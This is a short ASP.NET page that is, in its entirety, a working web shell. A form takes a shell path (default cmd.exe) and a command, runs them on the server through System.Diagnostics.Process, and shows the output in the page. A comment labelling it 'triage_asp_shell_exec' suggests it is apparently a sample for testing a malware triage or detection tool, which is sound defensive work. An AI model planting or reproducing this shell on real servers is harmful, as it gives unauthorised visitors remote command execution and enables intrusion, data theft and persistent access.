<%@ Page Language="C#" %>
<%-- triage-expect: triage_asp_shell_exec --%>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
    protected void Run_Click(object sender, EventArgs e) {
        Process p = new Process();
        p.StartInfo.FileName = shellPath.Text;
        p.StartInfo.UseShellExecute = false;
        p.StartInfo.RedirectStandardInput = true;
        p.StartInfo.RedirectStandardOutput = true;
        p.Start();
        p.StandardInput.WriteLine(commandLine.Text);
        p.StandardInput.WriteLine("exit");
        output.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd());
    }
</script>
<form runat="server">
  <asp:TextBox ID="shellPath" runat="server">cmd.exe</asp:TextBox>
  <asp:TextBox ID="commandLine" runat="server" />
  <asp:Button ID="go" runat="server" Text="Run" OnClick="Run_Click" />
  <pre><asp:Literal ID="output" runat="server" /></pre>
</form>
